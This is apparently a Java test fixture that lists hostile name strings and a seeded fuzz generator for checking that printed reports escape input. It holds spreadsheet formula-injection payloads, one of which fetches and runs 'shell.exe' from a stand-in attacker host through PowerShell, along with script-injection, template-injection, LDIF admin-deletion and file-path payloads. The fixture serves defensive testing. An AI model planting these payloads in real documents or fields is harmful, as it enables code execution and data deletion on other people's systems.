package curfew.reports;

import java.util.List;
import java.util.Random;

/** Texts that somebody might give as a name to do harm where it is printed. */
final class Hostile {
    static final List<String> TEXTS = List.of(
            "=1+1",
            "+1",
            "-2+3",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
            "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\uFEFF=1+1",
            "\u200B=1+1",
            "\"=1+1",
            "\uFF1D1+1",
            "'=1+1",
            "''",
            "'",
            "harmless;=1+1",
            "harmless; \"=1+1\"",
            "harmless\t=1+1",
            "harmless\r\n=1+1",
            "a;'b",
            "a;';'=b",
            "O'Neill",
            "Smith, \"Bob\"",
            "a | b",
            "| a |",
            "a \\| b",
            " | ",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "{{run}} {{{run}}} {{#cases}}",
            "dn: CN=admin\nchangetype: delete",
            "x\n\ndn: CN=admin\nchangetype: delete\n",
            ": colon",
            "< file:///etc/passwd",
            " leading and trailing ",
            "\u202Egnp.exe",
            "שלום عليكم",
            "日本語、全角",
            "\uD83D\uDE00 emoji",
            "\u0000nul",
            "\u001B[31mred\u001B[0m",
            "line\u2028separator",
            "x".repeat(400));

    private static final String ALPHABET = "'';;;=+-@\t\r\n \"ab|\\,\u00A0\uFEFF\uFF1D\u2212é<>&:";

    private Hostile() {}

    /** Texts of characters that matter, the same for the same seed. */
    static String random(Random random) {
        StringBuilder text = new StringBuilder();
        int length = random.nextInt(12);
        for (int i = 0; i < length; i++) {
            text.append(ALPHABET.charAt(random.nextInt(ALPHABET.length())));
        }
        return text.toString();
    }
}
